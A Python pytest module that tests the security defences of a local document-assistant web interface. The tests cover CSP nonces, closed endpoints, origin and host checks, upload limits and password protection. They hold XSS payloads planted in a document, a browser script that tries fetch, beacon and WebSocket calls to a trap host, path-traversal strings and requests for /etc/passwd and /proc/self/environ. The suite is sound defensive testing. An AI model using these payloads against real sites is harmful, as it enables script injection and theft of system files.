"""What the page and its service let in and let out: hostile documents, hostile pages of other sites, hostile requests."""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import TYPE_CHECKING, Any

import httpx
import pytest
import safehttpx
from gradio_client import Client

from ingest import ingest
from rag import open_assistant, open_collection, read_settings
from tests.fakes import FakeAssistant
from tests.ui.conftest import served, visit
from tests.ui.test_mcp import over_http, waited_for
from tests.ui.test_messages import missing
from ui import guard_errors
from ui import serve as serving
from ui.errors import OpenHost
from ui.first_page import mended
from ui.guard import LARGEST_MESSAGE, check_host, check_origin, check_way
from ui.guard_errors import RequestRefused, StrangeHost, StrangeOrigin, WayClosed
from ui.serve import listen

if TYPE_CHECKING:
    from playwright.sync_api import Browser


class Trap(BaseHTTPRequestHandler):
    """Another host, as far as the browser is concerned; it notes who comes."""

    def do_GET(self) -> None:
        self.server.visitors.append(self.path)  # type: ignore[attr-defined]
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def trap() -> Iterator[ThreadingHTTPServer]:
    server = ThreadingHTTPServer(("localhost", 0), Trap)
    server.visitors = []  # type: ignore[attr-defined]
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    yield server
    server.shutdown()
    server.server_close()


# --- what a document holds -------------------------------------------------------------------------------------------


def planted(elsewhere: str) -> str:
    """A resolution in which everything tries to run, or to reach another host."""
    attacks = [
        f"![图]({elsewhere}/markdown)",
        f"<img src={elsewhere}/image onerror=window.ran=1>",
        f"<script src={elsewhere}/script></script><script>window.ran=2</script>",
        f"<style>@import url({elsewhere}/import);*{{background:url({elsewhere}/css)}}</style>",
        f"<div style='background:url({elsewhere}/inline)'>甲</div><link rel=stylesheet href={elsewhere}/link>",
        "<a href='javascript:window.ran=3'>乙</a>[丙](javascript:window.ran=4)<svg onload=window.ran=5>",
        f"<iframe src={elsewhere}/frame></iframe><form action={elsewhere}/form><button>丁</button></form>",
        f"<meta http-equiv=refresh content='0;url={elsewhere}/refresh'><base href={elsewhere}/>",
        "${window.ran=6}{{constructor.constructor('window.ran=7')()}}{@html '<img onerror=window.ran=8 src=x>'}",
        f'<img src="/gradio_api/file={elsewhere}/through-the-server">',
    ]
    paragraphs = "\n\n".join(f"{number}. 注意到植入段落 {attack}；" for number, attack in enumerate(attacks, start=1))
    return f"联合国  A/RES/99/1\n\n大会\n\n大会决议\n\n99/1. 植入 {attacks[0]} {attacks[1]}\n\n大会，\n\n{paragraphs}\n"


def test_nothing_of_a_planted_document_runs_or_reaches_out(
    browser: Browser, trap: ThreadingHTTPServer, tmp_path: Path
) -> None:
    """From the file to every place where the page shows it: name, title, list, answer, source, whole document."""
    elsewhere = f"http://localhost:{trap.server_port}"
    file = tmp_path / "texts" / f"<img src={elsewhere.replace('/', '')} onerror=window.ran=9> ![x](http:x).txt"
    file.parent.mkdir()
    file.write_text(planted(elsewhere), encoding="utf-8")
    settings = read_settings(home=tmp_path / "home")
    with open_collection(settings) as collection:
        assert not ingest(collection, [file.parent]).failed
    with open_assistant(settings) as assistant, served(assistant) as url, visit(browser, url) as visitor:
        page = visitor.page
        visitor.ask("A/RES/99/1号决议第2段说了什么？")
        assert page.locator("#pc-current .pc-cite").count() >= 1
        page.locator("#pc-current .pc-cite").first.click()
        page.locator("#pc-panel .pc-card .pc-open").first.click()
        page.locator("#pc-panel .pc-paragraph").first.wait_for()
        shown = page.locator("#pc-panel").inner_text()
        for tag in ("<script", "<iframe", "![图]", "{{constructor", "onerror=window.ran=9"):
            assert tag in shown  # as text, every character of it
        visitor.ask(planted(elsewhere)[:1500])
        page.click("[data-action=library]")
        page.wait_for_timeout(300)  # an image or a refresh would need a moment
        assert page.evaluate("window.ran") is None
        assert page.url.startswith(url)
    assert trap.visitors == []  # type: ignore[attr-defined]


INSERTED = """async (elsewhere) => {
  const place = document.createElement("div");
  document.body.append(place);
  place.innerHTML = `<img src="x" onerror="window.ran=1"><img src="${elsewhere}/image"><svg onload="window.ran=2"></svg>
    <a id="planted" href="javascript:window.ran=3">x</a><div style="background:url(${elsewhere}/css)">x</div>
    <iframe src="${elsewhere}/frame"></iframe><link rel="stylesheet" href="${elsewhere}/link">
    <video poster="${elsewhere}/poster"></video><object data="${elsewhere}/object"></object>
    <img src="/gradio_api/file=${elsewhere}/server"><img src="/gradio_api/proxy=${elsewhere}/proxy">`;
  document.getElementById("planted").click();
  for (const text of ["window.ran=4", ""]) {
    const script = document.createElement("script");
    if (text) script.textContent = text; else script.src = `${elsewhere}/script`;
    document.head.append(script);
  }
  await fetch(`${elsewhere}/fetch`).catch(() => {});
  navigator.sendBeacon(`${elsewhere}/beacon`, "x");
  try { new WebSocket(elsewhere.replace("http", "ws")); } catch {}
  await new Promise(done => setTimeout(done, 400));
}"""


def test_even_markup_that_came_through_would_neither_run_nor_reach_out(
    browser: Browser, trap: ThreadingHTTPServer, fake_page: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The second wall: everything above, put into the live page on purpose. The browser refuses, and so does the server."""
    fetched: list[str] = []
    monkeypatch.setattr(safehttpx, "get", lambda url, **_: fetched.append(url))
    with visit(browser, fake_page) as visitor:
        visitor.page.evaluate(INSERTED, f"http://localhost:{trap.server_port}")
        assert visitor.page.evaluate("window.ran") is None
        assert len(visitor.complaints) >= 8
        visitor.complaints.clear()
        visitor.elsewhere.clear()  # what the browser was asked for, and refused
    assert trap.visitors == []  # type: ignore[attr-defined]
    assert fetched == []


def test_the_first_page_carries_no_name_of_another_site_and_a_new_nonce_each_time(fake_page: str) -> None:
    first, second = httpx.get(fake_page), httpx.get(fake_page)
    assert first.headers["content-security-policy"] != second.headers["content-security-policy"]
    assert (
        "'unsafe-inline'" not in first.headers["content-security-policy"].partition("script-src")[2].partition(";")[0]
    )
    assert "frame-ancestors 'none'" in first.headers["content-security-policy"]
    assert "gradio.app" not in first.text.partition("window.gradio_config")[0]
    (nonce,) = {each.partition('"')[0] for each in first.text.split('nonce="')[1:]}
    assert f"'nonce-{nonce}'" in first.headers["content-security-policy"]
    assert first.text.count("<script") == first.text.count(f'<script nonce="{nonce}"')


def test_what_never_changes_is_asked_for_once(fake_page: str) -> None:
    page = httpx.get(fake_page)
    script = page.text.partition('src="./assets/')[2].partition('"')[0]
    assert "immutable" in httpx.get(f"{fake_page}/assets/{script}").headers["cache-control"]
    assert "immutable" not in httpx.get(f"{fake_page}/assets/nothing.js").headers.get("cache-control", "")
    assert page.headers["cache-control"] == "no-store"


def test_a_script_that_is_only_spoken_of_gets_no_nonce() -> None:
    data = json.dumps("<script>x</script>").replace("<", "\\u003c")
    assert data in mended(f"<meta charset='utf-8'><script>a = {data}</script>", head="", nonce="n")


# --- who asks, and which way -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/gradio_api/file=http://192.0.2.1/x"),
        ("GET", "/gradio_api/file=https:/192.0.2.1/x"),
        ("GET", "/gradio_api/file=%68ttp%3A//192.0.2.1/x"),
        ("GET", "/gradio_api/proxy=https://example.hf.space/x"),
        ("GET", "/monitoring"),
        ("GET", "/monitoring/summary"),
        ("GET", "/gradio_api/runs"),
        ("GET", "/gradio_api/deep_link"),
        ("GET", "/gradio_api/token"),
        ("GET", "/gradio_api/vibe-code"),
        ("POST", "/gradio_api/vibe-edit"),
        ("POST", "/gradio_api/process_recording"),
        ("POST", "/gradio_api/run/ask"),
        ("POST", "/gradio_api/api/ask"),
        ("GET", "/gradio_api/mcp/schema"),
        ("GET", "/gradio_api/mcp/sse"),
        ("GET", "/gradio_api/dev/reload"),
        ("GET", "/docs"),
        ("PUT", "/"),
        ("OPTIONS", "/gradio_api/upload"),
    ],
)  # fmt: skip
def test_a_way_that_nobody_needs_is_closed(method: str, path: str, fake_page: str) -> None:
    answer = httpx.request(method, fake_page + path)
    assert answer.status_code == 404
    assert {"en", "zh", "name"} == answer.json()["error"].keys()


@pytest.mark.parametrize("path", ["/gradio_api/file=/a/../b", "/static/../config", "/assets/..\\..\\x"])
def test_no_way_leads_up(path: str) -> None:
    with pytest.raises(WayClosed):
        check_way("GET", path)


@pytest.mark.parametrize("path", ["/etc/passwd", "/proc/self/environ", "C:/x"])
def test_no_file_of_this_machine_is_handed_out(path: str, fake_page: str) -> None:
    assert httpx.get(f"{fake_page}/gradio_api/file={path}").status_code == 403


@pytest.mark.parametrize(
    "headers",
    [
        {"origin": "http://attacker.example"},
        {"origin": "http://localhost:1"},
        {"origin": "null"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site", "sec-fetch-mode": "no-cors"},
    ],
)
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("POST", "/gradio_api/upload"),
        ("POST", "/gradio_api/queue/join"),
        ("POST", "/gradio_api/mcp/"),
        ("POST", "/gradio_api/component_server"),
        ("POST", "/login"),
        ("GET", "/config"),
        ("GET", "/gradio_api/file=/x"),
    ],
)
def test_a_page_of_another_site_gets_nothing(method: str, path: str, headers: dict[str, str], fake_page: str) -> None:
    answer = httpx.request(method, fake_page + path, headers=headers)
    assert answer.status_code == 403
    assert answer.json()["error"]["name"] == "StrangeOrigin"


def test_a_link_on_another_site_opens_the_page() -> None:
    link = {"host": "127.0.0.1:7860", "sec-fetch-site": "cross-site", "sec-fetch-mode": "navigate"}
    check_origin(link, "GET", "/")
    with pytest.raises(StrangeOrigin):
        check_origin(link, "GET", "/logout")
    check_origin(
        {"host": "inside:7860", "x-forwarded-host": "docs.example", "origin": "https://docs.example"}, "POST", "/login"
    )


@pytest.mark.parametrize(
    ("host", "own"),
    [
        *((name, True) for name in ("127.0.0.1:7860", "localhost", "LOCALHOST:80", "[::1]:7860", "127.0.0.2", "localhost.")),
        *((name, False) for name in ("attacker.example", "127.0.0.1.attacker.example", "localhost.attacker.example", "", "[::2]", "0")),
    ],
)  # fmt: skip
def test_only_names_of_this_machine_are_answered_to(host: str, own: bool) -> None:
    check_host({"host": host}, local_only=False)
    if own:
        check_host({"host": host}, local_only=True)
    else:
        with pytest.raises(StrangeHost):
            check_host({"host": host}, local_only=True)


@pytest.mark.parametrize("host", ["0.0.0.0", "::", "[::]", "0", "127.1", "::ffff:127.0.0.1", "nowhere.invalid"])  # noqa: S104
def test_other_machines_are_let_in_with_a_password_only(
    host: str, paracite: Callable[..., subprocess.CompletedProcess[str]], home: Path
) -> None:
    done = paracite("serve", "--host", host, "--port", "0", home=home)
    assert done.returncode == 2
    assert "--auth USER:PASSWORD" in done.stderr
    assert not home.exists()


def test_a_name_of_this_machine_that_leads_elsewhere_is_found_out(monkeypatch: pytest.MonkeyPatch, home: Path) -> None:
    everywhere = listen("0.0.0.0", 0)  # noqa: S104
    monkeypatch.setattr(serving, "listen", lambda *_: everywhere)
    with pytest.raises(OpenHost):
        serving.serve(read_settings(home=home), host="localhost", port=0, auth=None, announce=print, language="en")


# --- how much --------------------------------------------------------------------------------------------------------


def test_uploads_are_limited_and_come_back_as_no_page_of_ours() -> None:
    with served(FakeAssistant(), largest_file=1_000_000) as url:
        page = ("x.html", b"<script>window.ran=1</script>", "text/html")
        (path,) = httpx.post(f"{url}/gradio_api/upload", files={"files": page}).json()
        back = httpx.get(f"{url}/gradio_api/file={path}")
        assert back.headers["content-type"] == "application/octet-stream"
        assert back.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in back.headers["content-security-policy"]
        assert httpx.post(f"{url}/gradio_api/upload", files={"files": b"x" * 1_500_000}).status_code == 413
        refused = httpx.post(f"{url}/gradio_api/upload", files={"files": b"x" * 2_500_000})
        assert refused.status_code == 413
        assert "paracite ingest" in refused.json()["error"]["zh"]


def test_a_message_has_a_length_and_not_any_length(fake_page: str) -> None:
    def pieces() -> Iterator[bytes]:
        yield b"{}"

    assert httpx.post(f"{fake_page}/gradio_api/queue/join", content=pieces()).status_code == 411
    long = httpx.post(f"{fake_page}/gradio_api/queue/join", content=b" " * (LARGEST_MESSAGE + 1))
    assert long.status_code == 413


def test_an_address_in_the_place_of_a_file_is_not_fetched(fake_page: str, monkeypatch: pytest.MonkeyPatch) -> None:
    fetched: list[str] = []
    monkeypatch.setattr(safehttpx, "get", lambda url, **_: fetched.append(url))
    file = {"path": "http://192.0.2.1/x", "url": "http://192.0.2.1/x", "meta": {"_type": "gradio.FileData"}}
    for way in ("call/ask", "call/show"):
        begun = httpx.post(f"{fake_page}/gradio_api/{way}", json={"data": [file, None]}).json()
        ended = httpx.get(f"{fake_page}/gradio_api/{way}/{begun['event_id']}").text
        assert "event: error" in ended
    assert fetched == []


# --- with a password -------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def guarded() -> Iterator[str]:
    with served(FakeAssistant(), auth=("reader", "se:cret 密"), local_only=False) as url:
        yield url


@pytest.mark.parametrize("path", ["/config", "/gradio_api/info", "/gradio_api/mcp/", "/gradio_api/file=/x"])
def test_the_password_guards(path: str, guarded: str) -> None:
    def status(**given: Any) -> int:
        headers = {"accept": "application/json, text/event-stream"} | given.pop("headers", {})
        with httpx.stream("GET", guarded + path, headers=headers, **given) as answer:  # the tools' stream has no end
            return answer.status_code

    assert status() == 401
    assert status(auth=("reader", "wrong")) == 401
    assert status(headers={"authorization": "Basic !"}) == 401
    assert status(headers={"cookie": "access-token=x"}) == 401
    assert status(auth=("reader", "se:cret 密")) != 401


def test_tools_and_endpoints_take_the_password_as_http_basic(guarded: str) -> None:
    begun = httpx.post(f"{guarded}/gradio_api/call/ask", json={"data": ["甲", None]}, auth=("reader", "se:cret 密"))
    ended = httpx.get(f"{guarded}/gradio_api/call/ask/{begun.json()['event_id']}", auth=("reader", "se:cret 密")).text
    assert "event: complete" in ended
    client = Client(guarded, auth=("reader", "se:cret 密"), verbose=False)
    assert client.predict(api_name="/documents")["documents"]

    async def listed() -> list[str]:
        async with (
            httpx.AsyncClient(auth=("reader", "se:cret 密")) as http,
            over_http(guarded, http_client=http) as session,
        ):
            return [each.name for each in (await session.list_tools()).tools]

    assert "ask" in waited_for(listed())


def test_a_stranger_learns_only_that_it_is_well(guarded: str) -> None:
    assert httpx.get(f"{guarded}/healthz").json() == {"status": "ok"}
    assert httpx.get(f"{guarded}/healthz", auth=("reader", "se:cret 密")).json()["documents"] == 2


@pytest.mark.parametrize(
    "error",
    [each for each in vars(guard_errors).values() if isinstance(each, type) and issubclass(each, RequestRefused)],
)
def test_every_refusal_speaks_both_languages(error: Any) -> None:
    assert error is RequestRefused or missing(error.templates) == []
